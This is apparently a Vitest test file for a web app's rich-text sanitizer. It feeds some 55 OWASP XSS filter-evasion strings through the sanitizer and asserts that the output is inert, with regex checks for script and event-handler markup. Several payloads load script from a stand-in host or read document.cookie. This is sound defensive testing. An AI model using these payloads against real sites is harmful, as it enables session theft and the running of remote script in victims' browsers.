import { describe, expect, it } from 'vitest';
import { cleanRichTextForSaving, richTextMaxLength, richTextToPlainText, sanitizeRichText } from '@/lib/rich-text/sanitize';

/*
 * The attack strings are from the OWASP "XSS Filter Evasion Cheat Sheet" (OWASP Cheat Sheet Series,
 * cheatsheetseries.owasp.org), section by section; a few are shortened to the part that matters.
 * What must survive is what the editor (TipTap 3 with StarterKit and the table extension) writes.
 */

/** Nothing in the output may run script, load a resource or style the page (OWASP XSS Prevention, rule 6: sanitize HTML markup). */
function expectInert(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  // As words in the text they are harmless; as an attribute value they would run.
  expect(html).not.toMatch(/=\s*["'`]?\s*(?:javascript|vbscript|livescript|data):/i);
  expect(html).not.toMatch(/<(?:img|iframe|frame|object|embed|svg|math|style|link|meta|base|form|input|body|video|audio|table background)/i);
  expect(html).not.toMatch(/\sstyle\s*=/i);
  expect(html).not.toMatch(/\ssrc\s*=/i);
}

const owaspCases: [string, string][] = [
  ['basic XSS test without filter evasion', '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>'],
  ['XSS locator (polyglot)', `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`],
  ['image XSS using the JavaScript directive', `<IMG SRC="javascript:alert('XSS');">`],
  ['no quotes and no semicolon', "<IMG SRC=javascript:alert('XSS')>"],
  ['case insensitive XSS attack vector', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ['HTML entities', '<IMG SRC=javascript:alert(&quot;XSS&quot;)>'],
  ['grave accent obfuscation', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['malformed A tags', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['malformed IMG tags', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['default SRC tag by leaving it empty', '<IMG SRC= onmouseover="alert(\'xxs\')">'],
  ['on error alert', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['decimal HTML character references', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>'],
  ['hexadecimal HTML character references without trailing semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>'],
  ['embedded tab', '<a href="jav\tascript:alert(\'XSS\');">x</a>'],
  ['embedded encoded tab', '<a href="jav&#x09;ascript:alert(\'XSS\');">x</a>'],
  ['embedded newline to break up XSS', '<a href="jav&#x0A;ascript:alert(\'XSS\');">x</a>'],
  ['null breaks up JavaScript directive', '<a href="java\0script:alert(\'XSS\')">x</a>'],
  ['spaces and meta chars before the JavaScript', '<a href=" &#14;  javascript:alert(\'XSS\');">x</a>'],
  ['non-alpha-non-digit XSS', '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>'],
  ['non-alpha-non-digit body onload', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['no closing script tags', '<SCRIPT SRC=http://xss.example/xss.js?< B >'],
  ['protocol resolution in script tags', '<SCRIPT SRC=//xss.example/.j>'],
  ['half open HTML/JavaScript XSS vector', '<IMG SRC="`<javascript:alert>`(\'XSS\')"'],
  ['escaping JavaScript escapes', '</script><script>alert(\'XSS\');</script>'],
  ['end title tag', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['INPUT image', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'],
  ['BODY image', '<BODY BACKGROUND="javascript:alert(\'XSS\')">'],
  ['IMG dynsrc', '<IMG DYNSRC="javascript:alert(\'XSS\')">'],
  ['list-style-image', "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"],
  ['SVG object tag', '<svg/onload=alert(\'XSS\')>'],
  ['BODY tag', '<BODY ONLOAD=alert(\'XSS\')>'],
  ['BGSOUND', '<BGSOUND SRC="javascript:alert(\'XSS\');">'],
  ['STYLE sheet', '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'],
  ['STYLE tags with broken-up JavaScript', '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>'],
  ['STYLE attribute using a comment to break up expression', '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">'],
  ['anonymous HTML with STYLE attribute', '<XSS STYLE="xss:expression(alert(\'XSS\'))">'],
  ['META refresh', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'],
  ['META using data URL scheme', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'],
  ['IFRAME', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'],
  ['IFRAME event based', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ['FRAMESET', '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>'],
  ['TABLE background', '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><td>x</td></tr></TABLE>'],
  ['TD background', '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></TABLE>'],
  ['DIV background-image', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">'],
  ['BASE tag', '<BASE HREF="javascript:alert(\'XSS\');//">'],
  ['OBJECT tag', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>'],
  ['EMBED SVG which contains XSS vector', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'],
  ['XML data island with CDATA obfuscation', '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'],
  ['downlevel-hidden block', '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->'],
  ['A href with data URL', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['A href with vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
];

describe('sanitizeRichText: OWASP XSS Filter Evasion Cheat Sheet', () => {
  it.each(owaspCases)('leaves nothing active: %s', (_name, attack) => {
    const out = sanitizeRichText(`<p>before</p>${attack}<p>after</p>`);
    expectInert(out);
    // The report around the attack is kept (OWASP: sanitize, do not reject the whole input).
    expect(out).toContain('<p>before</p>');
  });

  it('drops script content entirely rather than showing it as text (common practice)', () => {
    expect(sanitizeRichText('<p>ok</p><script>alert("XSS")</script>')).toBe('<p>ok</p>');
    expect(sanitizeRichText('<style>p{color:red}</style><p>ok</p>')).toBe('<p>ok</p>');
  });

  it('keeps the text of a link whose address is refused, without the link (OWASP: only http, https, mailto)', () => {
    expect(sanitizeRichText('<p><a href="javascript:alert(1)">click</a></p>')).toBe('<p>click</p>');
    expect(sanitizeRichText('<p><a href="//evil.example/x">off-site</a></p>')).toBe('<p>off-site</p>');
  });

  it('forces rel="noopener noreferrer" and a new tab on every link (OWASP HTML5 Security Cheat Sheet: tabnabbing)', () => {
    const out = sanitizeRichText('<p><a href="https://docs.brackwater.example/sop-114" target="_self" rel="opener">SOP-114</a></p>');
    expect(out).toBe('<p><a rel="noopener noreferrer" target="_blank" href="https://docs.brackwater.example/sop-114">SOP-114</a></p>');
    expect(sanitizeRichText('<p><a href="mailto:qa@brackwater.example">QA</a></p>')).toContain('href="mailto:qa@brackwater.example"');
  });

  it('keeps only sane cell spans (common practice)', () => {
    const out = sanitizeRichText('<table><tbody><tr><td colspan="2" rowspan="999999" onclick="x()">a</td></tr></tbody></table>');
    expect(out).toBe('<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>');
  });
});

describe('sanitizeRichText: what the editor writes survives', () => {
  it('keeps headings, marks, lists, quotes, code, rules and breaks unchanged', () => {
    const html =
      '<h2>Summary</h2><p>Light fills on <strong>Filler 1</strong> after a <em>lot change</em>, <u>not</u> <s>before</s> it; <code>SOP-114</code>.</p>' +
      '<h3>Findings</h3><ul><li><p>Tapped density 0.71 g/mL</p></li><li><p>Settings not re-checked</p></li></ul>' +
      '<ol start="3"><li><p>third</p></li></ol><blockquote><p>Quoted from the batch record.</p></blockquote>' +
      '<pre><code>gauge 6 inHg</code></pre><h4>Note</h4><p>line<br />next</p><hr />';
    expect(sanitizeRichText(html)).toBe(html);
  });

  it('keeps a table as the table extension writes it, without its inline widths', () => {
    const tiptap =
      '<table style="min-width: 50px"><colgroup><col style="min-width: 25px"><col style="min-width: 25px"></colgroup>' +
      '<tbody><tr><th colspan="1" rowspan="1"><p>Sample</p></th><th colspan="1" rowspan="1"><p>Mass (mg)</p></th></tr>' +
      '<tr><td colspan="1" rowspan="1"><p>1</p></td><td colspan="1" rowspan="1"><p>551</p></td></tr></tbody></table>';
    expect(sanitizeRichText(tiptap)).toBe(
      '<table><colgroup><col /><col /></colgroup>' +
        '<tbody><tr><th colspan="1" rowspan="1"><p>Sample</p></th><th colspan="1" rowspan="1"><p>Mass (mg)</p></th></tr>' +
        '<tr><td colspan="1" rowspan="1"><p>1</p></td><td colspan="1" rowspan="1"><p>551</p></td></tr></tbody></table>',
    );
  });

  it('is stable: cleaning clean text changes nothing (common practice)', () => {
    const once = sanitizeRichText('<h1>Title</h1><p><b>bold</b> <i>it</i> <a href="https://x.example">x</a></p><IMG SRC=x onerror=alert(1)>');
    expect(once).toBe('<h2>Title</h2><p><strong>bold</strong> <em>it</em> <a rel="noopener noreferrer" target="_blank" href="https://x.example">x</a></p>');
    expect(sanitizeRichText(once)).toBe(once);
  });
});

describe('cleanRichTextForSaving', () => {
  it('refuses text longer than the limit after cleaning, with a message saying what to do (common practice)', () => {
    const long = `<p>${'a'.repeat(richTextMaxLength)}</p>`;
    const out = cleanRichTextForSaving(long);
    expect(out.ok).toBe(false);
    if (!out.ok) expect(out.message).toMatch(/too long.*200,000/);
  });

  it('measures after cleaning, so stripped markup does not count', () => {
    const out = cleanRichTextForSaving(`<p>short</p><script>${'x'.repeat(richTextMaxLength)}</script>`);
    expect(out).toEqual({ ok: true, html: '<p>short</p>', empty: false });
  });

  it('reports an editor left empty (an empty paragraph) as empty', () => {
    expect(cleanRichTextForSaving('<p></p>')).toMatchObject({ ok: true, empty: true });
    expect(cleanRichTextForSaving('<script>alert(1)</script>')).toMatchObject({ ok: true, html: '', empty: true });
    expect(cleanRichTextForSaving('<p> </p><hr>')).toMatchObject({ ok: true, empty: false });
  });
});

describe('richTextToPlainText', () => {
  it('gives readable text for previews and e-mail: blocks on lines, list items with a dash, cells with tabs', () => {
    const html =
      '<h2>Summary</h2><p>Light fills &amp; heavy fills</p><ul><li><p>one</p></li><li><p>two</p></li></ul>' +
      '<table><tbody><tr><th><p>Sample</p></th><th><p>Mass</p></th></tr><tr><td><p>1</p></td><td><p>551 mg</p></td></tr></tbody></table>';
    expect(richTextToPlainText(html)).toBe('Summary\nLight fills & heavy fills\n\n- one\n- two\nSample\tMass\n1\t551 mg');
  });

  it('never returns markup, even from hostile input', () => {
    const text = richTextToPlainText('<p>a</p><script>alert(1)</script><img src=x onerror=alert(1)><p>&lt;b&gt;</p>');
    expect(text).toBe('a\n<b>');
    expect(text).not.toMatch(/alert|img/);
  });
});
